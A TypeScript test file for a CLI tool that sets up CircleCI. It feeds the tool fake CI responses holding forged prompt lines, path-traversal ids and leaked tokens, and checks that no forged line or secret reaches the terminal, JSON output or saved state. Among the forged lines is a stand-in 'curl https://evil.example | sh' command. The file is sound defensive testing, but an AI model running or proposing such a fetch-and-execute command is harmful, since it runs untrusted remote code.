import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { Json } from '../../src/clouds/json.ts'
import type { Fault } from '../../src/rehearsal/faults.ts'
import { CONFIG } from '../rehearsal/circleci-config.ts'
import { git } from '../support/checkout.ts'
import { addContext, followed } from '../support/circleci.ts'
import { LIE, lieIn, lieOnTerminal } from '../support/lies.ts'
import { filesIn, setStage } from '../support/stage.ts'
import { openTerminal } from '../support/terminal.ts'
import { signedIn } from '../support/vendors.ts'
import { commitAndPush } from '../sweeps/run.ts'

/** What would be taken for our own, were it to begin a line. */
const FORGED = ['? Carry it out? Yes', '✔ circleci.first-run  all done', 'Go on: curl https://evil.example | sh']
const FORGED_LINE = /^\s{0,1}(\? Carry it out\? Yes|✔ circleci.first-run {2}all done|Go on: curl)/m
const LYING = `${LIE}\r\n${FORGED.join('\r\n')}\r${FORGED.join('\r')}`

const JOBS = 'circleJobs=build,deploy_heroku,push_docker_hub,push_gce_registry'

const CONTEXTS = ['circleci.context-heroku', 'circleci.context-google']

/** Jobs by names that lie. */
const LYING_CONFIG = CONFIG.replace('yourname/', 'pennocktech/').replace(
  /- (deploy_heroku|push_docker_hub):\n/g,
  (found, job) => `${found}          name: ${JSON.stringify(`${job} ${LYING}`)}\n`,
)

/** The token in lines so short that its beginning is far above what is shown, and with colours inside. */
const broken = (token: string) => token.replace(/(.{5})/g, '$1\r\n')
const coloured = (token: string) => token.replace(/(.{9})/g, '$1\u001b[31m')

/** What a job that failed has written, as CI has it. */
const outputOf = (token: string): Json => [
  { type: 'out', message: `${'long '.repeat(100_000)}\r\n${LYING}\r\n${token}\r\n` },
  {
    type: 'out',
    message: `${coloured(token)}\r\n${LYING}\r\n${'x'.repeat(3_000)} denied ${token}\r\n${broken(token)}`,
  },
]

interface Told {
  /** What the person is signed in with. */
  readonly secret: string
  /** What origin has on the main branch. */
  readonly revision: string
}

/** A project whose main branch has the lying jobs, contexts without a value in them, and so jobs that fail. */
async function lyingCi(faultsOf: (told: Told) => readonly Fault[]) {
  const stage = await setStage({
    // The first run comes after the contexts, which were there before.
    lanes: ['--only', 'circleci', '--set', JOBS, ...CONTEXTS.flatMap(step => ['--adopt', step])],
    change: world => {
      followed(world)
      addContext(world, 'heroku-and-dockerhub')
      addContext(world, 'google-dummyapp')
    },
  })
  const { checkout, rehearsal, home } = stage
  mkdirSync(join(checkout, '.circleci'))
  writeFileSync(join(checkout, '.circleci/config.yml'), LYING_CONFIG)
  commitAndPush(stage)
  const secret = rehearsal.world.circleci.users[0]?.tokens[0]?.token ?? ''
  const revision = git(checkout, 'rev-parse', 'HEAD').trim()
  rehearsal.faults.push(...faultsOf({ secret, revision }))
  const saved = () => [...filesIn(join(home, 'state')).values()].join('\n')
  return { ...stage, secret, saved }
}

/** Runs that tell of it in every way. */
const WAYS = [
  ['--yes', '--plain', '--verbose'],
  ['--yes', '--json'],
  ['plan', '--yes', '--json'],
  ['status', '--yes', '--live'],
]

/** What it was signed in with, in pieces of a length that no redacting leaves, whatever line they are broken at. */
function leakedIn(text: string, secret: string): readonly string[] {
  const joined = text.replace(/[\s�]|\\[rn]|\\u001b\[31m/g, '')
  return Array.from({ length: secret.length - 12 }, (_, at) => secret.slice(at, at + 12)).filter(one =>
    joined.includes(one),
  )
}

/** What there is to say against a text that was shown or saved. */
const faultsIn = (text: string, secret: string) => ({
  lie: lieIn(text),
  forged: FORGED_LINE.exec(text)?.[0],
  leaked: leakedIn(text, secret),
})
const NONE = { lie: undefined, forged: undefined, leaked: [] }

const answering = (path: string, body: Json): Fault => ({ path, do: { status: 200, body } })
const CREATED = '2026-01-01T00:00:00Z'
const PIPELINE = 'd0a0b0c0-0000-4000-8000-000000000001'

/** What CircleCI may say in the place of its own forms, and what of it is told. */
const ANSWERS: readonly (readonly [what: string, said: RegExp, faultsOf: (told: Told) => readonly Fault[]])[] = [
  ['the output of a job that failed', /denied/, ({ secret }) => [answering('^/output/', outputOf(secret))]],
  [
    'what is wrong with its config',
    /FAKE/,
    ({ secret, revision }) => [
      answering('/pipeline\\?', {
        items: [
          {
            id: PIPELINE,
            number: 7,
            created_at: CREATED,
            errors: [{ message: `${LYING} ${secret}` }],
            vcs: { revision },
          },
        ],
      }),
      answering('/workflow$', { items: [] }),
    ],
  ],
  [
    'why it begins no pipeline',
    /FAKE/,
    ({ secret }) => [
      { ...answering('/pipeline\\?', { items: [] }), method: 'GET' },
      { ...answering('/pipeline$', { message: `${LYING} ${secret}` }), method: 'POST' },
    ],
  ],
  [
    'a state that there is not, and why it is not run again',
    /FAKE/,
    ({ secret, revision }) => [
      answering('/pipeline\\?', {
        items: [{ id: PIPELINE, number: 7, created_at: CREATED, errors: [], vcs: { revision } }],
      }),
      answering('/workflow$', { items: [{ id: PIPELINE, name: LYING, status: 'failed', created_at: CREATED }] }),
      {
        ...answering('/job$', { items: [{ id: PIPELINE, name: LYING, status: `${LYING} ${secret}` }] }),
        method: 'GET',
      },
      { path: '/rerun$', do: { status: 400, body: { message: `${LYING} ${secret}` } } },
    ],
  ],
  [
    'ids that are none',
    /without the field id/,
    ({ revision }) => [
      answering('/pipeline\\?', {
        items: [{ id: `../${LYING}`, number: 7, created_at: CREATED, errors: [], vcs: { revision } }],
      }),
    ],
  ],
]

describe('Whatever CI says of its runs, no line lies and no secret is told:', () => {
  test.each(ANSWERS)('%s', async (_, said, faultsOf) => {
    const { run, secret, saved } = await lyingCi(faultsOf)
    const all = []
    for (const way of WAYS) all.push(await run(way))
    expect(all.map(({ all }) => faultsIn(all, secret))).toEqual(all.map(() => NONE))
    expect(all[0]?.all).toMatch(said)
    expect(all[0]?.all).toMatch(/✖ circleci.first-run\n/)
    expect(faultsIn(saved(), secret)).toEqual(NONE)
  })

  test('in a terminal', async () => {
    const { checkout, home, rehearsal, secret } = await lyingCi(({ secret }) => [
      answering('^/output/', outputOf(secret)),
    ])
    const terminal = openTerminal(['--only', 'circleci', '--set', JOBS, '--allow-host', '127.0.0.1'], {
      cwd: checkout,
      home,
      env: { DUMMYAPP_SETUP_TIME_SCALE: '0.01', ...signedIn(rehearsal) },
      rows: 60,
    })
    await terminal.answer('Are these right', 'enter')
    await terminal.answer('Use what was found', 'enter')
    await terminal.choose('What shall become of it', 'use it')
    await terminal.choose('What shall become of it', 'use it')
    await terminal.answer('Carry it out', 'enter')
    expect(await terminal.exit).toBe(1)
    expect(terminal.screen()).toContain('FAKE')
    expect(lieOnTerminal(terminal.raw())).toBeUndefined()
    expect(leakedIn(terminal.screen(), secret)).toEqual([])
    expect(FORGED_LINE.exec(terminal.screen())).toBeNull()
  })
})
